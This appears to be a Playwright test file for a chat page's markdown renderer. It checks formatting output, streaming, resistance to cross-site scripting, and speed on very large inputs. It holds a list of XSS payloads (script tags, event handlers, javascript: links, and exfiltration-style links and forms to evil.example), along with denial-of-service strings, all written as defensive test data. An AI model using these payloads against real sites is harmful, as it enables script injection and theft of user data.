"""Markdown in a browser: what it shows, that nothing of it runs, and that no text takes long."""

from __future__ import annotations

from typing import Any

from tests.web.chat_page.scripted import Scripted, words

RENDER = (
    "text => import('/page/markdown.js').then(m => (m.show(window.box = document.createElement('div'), text), box.%s))"
)
LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


def html(page: Any, text: str) -> str:
    made: str = page.evaluate(RENDER % "innerHTML", text)
    return made


CASES = {
    "a **b** *c* _d_ ~~e~~ `f`": "<p>a <strong>b</strong> <em>c</em> <em>d</em> <del>e</del> <code>f</code></p>",
    "***a*** **a *b* c**": "<p><em><strong>a</strong></em> <strong>a <em>b</em> c</strong></p>",
    "snake_case_name 2*3*4 * a * ~x~": "<p>snake_case_name 2<em>3</em>4 * a * ~x~</p>",
    "**open *b*": "<p>**open <em>b</em></p>",
    r"\*a\* \q `` a`b ``": r"<p>*a* \q <code>a`b</code></p>",
    "one\ntwo\n\nthree": "<p>one\ntwo</p><p>three</p>",
    "# A #\n###### B\n#no": "<h3>A</h3><h6>B</h6><p>#no</p>",
    "a\n---\n* * *": "<p>a</p><hr><hr>",
    "- a\n- b\n  - c\n\n  d": "<ul><li><p>a</p></li><li><p>b</p><ul><li>c</li></ul><p>d</p></li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "- a\n- b\n  1. c\n- d": "<ul><li>a</li><li>b<ol><li>c</li></ol></li><li>d</li></ul>",
    "> a\n> > b\n\nc": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>",
    "[a](https://x.example/?q=1 \"t\")": f'<p><a href="https://x.example/?q=1" {LINK}>a</a></p>',
    "see https://x.example/a_b_c.": f'<p>see <a href="https://x.example/a_b_c" {LINK}>https://x.example/a_b_c</a>.</p>',
    "(https://x.example/a(b))": f'<p>(<a href="https://x.example/a(b))" {LINK}>https://x.example/a(b))</a></p>',
    "<mailto:a@x.example>": f'<p><a href="mailto:a@x.example" {LINK}>mailto:a@x.example</a></p>',
    "![cat](https://x.example/c.png)": f'<p><a href="https://x.example/c.png" {LINK}>image: cat</a></p>',
    "[a](/relative) [b] [c](ftp://x)": "<p>[a](/relative) [b] [c](ftp://x)</p>",
    "&lt; <br> &amp;": "<p>&amp;lt; &lt;br&gt; &amp;amp;</p>",
    "a | b\n\n| no": "<p>a | b</p><p>| no</p>",
}  # fmt: skip


def test_markdown(page: Any) -> None:
    assert {text: html(page, text) for text in CASES} == CASES


def test_blocks_of_code_tables_and_tasks(page: Any) -> None:
    page.evaluate(RENDER % "innerHTML", "1. a\n   ```py\n   if x:\n       y\n   ```\n2. b")
    assert page.evaluate("[box.querySelectorAll('ol > li').length, box.querySelector('pre').textContent]") == [
        2, "if x:\n    y",
    ]  # fmt: skip
    page.evaluate(RENDER % "innerHTML", "~~~\n```\n# no heading")
    assert page.evaluate("box.querySelector('pre').textContent") == "```\n# no heading"  # open: the answer still comes
    page.evaluate(RENDER % "innerHTML", "| a | b |\n|:-:|--:|\n| 1 \\| 2 | *3* | 4 |\nend")
    assert page.evaluate("[...box.querySelectorAll('tr')].map(r => [...r.children].map(c => c.textContent))") == [
        ["a", "b"], ["1 | 2", "3"],
    ]  # fmt: skip
    assert page.evaluate("[...box.querySelectorAll('td')].map(c => c.className)") == ["center", "end"]
    page.evaluate(RENDER % "innerHTML", "- [x] done\n- [ ] not")
    assert page.evaluate("[...box.querySelectorAll('.task')].map(t => t.ariaLabel)") == ["done", "open"]
    page.evaluate(RENDER % "innerHTML", "```python\ndef f(): # why\n    return 'a' + 1\n```")
    spans = page.evaluate("[...box.querySelectorAll('span[class]')].map(s => [s.className, s.textContent])")
    assert spans == [
        ["c-keyword", "def"], ["c-call", "f"], ["c-comment", "# why"], ["c-keyword", "return"], ["c-string", "'a'"],
        ["c-number", "1"],
    ]  # fmt: skip


def test_an_answer_that_grows_shows_what_it_shows_at_once(page: Any) -> None:
    text = "# T\n\ntext **bold** [l](https://x.example)\n- a\n  - b\n\n```js\nlet x;\n\n```\n|a|\n|-|\n|1|\n> q\n\nend"
    grown = page.evaluate(
        """async text => {
             const { show } = await import('/page/markdown.js');
             const [box, one] = [document.createElement('div'), document.createElement('div')];
             for (let end = 1; end <= text.length; end++) show(box, text.slice(0, end));
             show(one, text);
             return [box.innerHTML, one.innerHTML, box.childNodes.length];
           }""",
        text,
    )
    assert grown[0] == grown[1]
    assert grown[2] > 5


ATTACKS = [
    "<script>document.title='pwned'</script>", "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=document.title='pwned'>", "<iframe srcdoc='<script>parent.document.title=`pwned`</script>'></iframe>",
    "[x](javascript:document.title='pwned')", "[x](JaVaScRiPt:document.title='pwned')", "<javascript:alert(1)>",
    "[x](\x01javascript:alert(1))", "[x](java\nscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))", "![x](https://evil.example/?q=secret)",
    "[x](https://x.example/\" onclick=\"alert(1))", "<https://x.example/\" onmouseover=\"alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```", "```js onload=alert(1)\n</code><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |", "- [x] <b onclick=alert(1)>x</b>",
    "# <style>*{display:none}</style>", "`<script>alert(1)</script>`", "<!--<script>alert(1)</script>-->",
    "<base href=https://evil.example/>", "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "[a](https://[::1]:x/)", "&#60;script&#62;",
    "<link rel=stylesheet href=https://evil.example/x.css>", "\u2028<script>alert(1)</script>",
]  # fmt: skip
ALLOWED = {
    "P", "EM", "STRONG", "DEL", "CODE", "PRE", "A", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "H3", "H4", "H5", "H6", "DIV",
    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "BUTTON", "B",
}  # fmt: skip
SEEN = """() => [...document.querySelectorAll('#messages .text *, #messages .call *, #messages .problem *')]
  .map(e => [e.tagName, e.getAttributeNames(), e.getAttribute('href')])"""


def test_xss_no_markup_of_a_model_runs(page: Any, scripted: Scripted) -> None:
    """Every attack as an answer, as thoughts, as a call's name and arguments, and as a message of the user.

    The page's fixture fails for a dialog, an error and a request to another site.
    """
    page.wait_for_selector("#model:enabled")
    for i, attack in enumerate(ATTACKS):
        call = {"index": 0, "id": attack, "function": {"name": attack, "arguments": attack}}
        scripted.answers[attack] = [
            *words(attack, "reasoning"), *words(attack, size=1 + i % 5), {"tool_calls": [call]},
        ]  # fmt: skip
        page.fill("#prompt", attack)
        page.press("#prompt", "Enter")
        page.locator("#messages > li.assistant:not(.busy)").nth(i).wait_for()
    for details in page.locator("summary").all():
        details.click()
    page.wait_for_timeout(200)
    assert page.title() == "lmkit chat"
    for tag, attributes, address in page.evaluate(SEEN):
        assert tag in ALLOWED
        assert not [
            name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc", "action")
        ]
        assert address is None or address.startswith(("https://x.example/", "https://evil.example/", "mailto:"))
    answers = page.locator("#messages > li.assistant > .text")
    assert answers.nth(0).inner_text() == ATTACKS[0]
    assert answers.nth(1).inner_text() == ATTACKS[1]


def test_xss_names_of_models_and_errors_are_text(page: Any, scripted: Scripted) -> None:
    scripted.models = ("<img src=x onerror=alert(1)>",)
    page.reload()
    page.wait_for_selector("#model:enabled")
    assert page.locator("#welcome img").count() == 0
    page.fill("#prompt", "BUSY")
    page.press("#prompt", "Enter")
    page.get_by_text("the queue is full <b>now</b>").wait_for()
    assert page.locator("#messages b, #messages img").count() == 0


def test_xss_the_policy_refuses_what_a_defect_would_let_through(page: Any) -> None:
    """Even if some code made markup of a text, the browser would refuse it."""
    make = "() => { try { document.body.innerHTML = '<b>x'; return 'made' } catch (error) { return error.name } }"
    assert page.evaluate(make) == "TypeError"
    with page.expect_event("requestfailed") as refused:
        page.evaluate("() => { const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i) }")
    assert refused.value.failure == "csp"
    assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', e => e.name)") == "TypeError"


LONG = {
    "stars": "*a " * 40_000, "mixed": "*a _b ~~c **d " * 10_000, "closers": "a* " * 40_000, "brackets": "[" * 100_000,
    "links": "[a](" * 30_000, "ticks": "".join("`" * (i % 400) + "a" for i in range(600)), "run": "*" * 100_000 + "a",
    "quotes": ">" * 100_000, "nested quotes": "\n".join("> " * i + "a" for i in range(300)),
    "lists": "\n".join("  " * i + "- a" for i in range(300)), "urls": "http://[" * 15_000, "rules": "-" * 99_999 + "x",
    "pipes": "|a" * 40_000 + "\n" + "|-" * 10 + "\n" + "|b" * 40_000, "spaces": "# a" + " " * 100_000 + "b #",
    "fences": "```" + "a" * 100_000 + "`", "bangs": "![" * 50_000, "emphases": "*a*" * 30_000, "hashes": "#" * 100_000,
    "code": "```py\n" + "'" * 50_000 + "\n```", "comments": "```js\n" + "/*" * 25_000 + "\n```",
}  # fmt: skip


def test_no_text_makes_the_page_hang(page: Any) -> None:
    """Each takes less than a second where a quadratic pass would take minutes. The limit of the test ends those."""
    for name, text in LONG.items():
        assert page.evaluate(RENDER % "textContent.length", text) > 0, name
        depth = page.evaluate("() => { let d = 0; for (let e = box; e; e = e.querySelector('*')) d++; return d }")
        assert depth < 400, name
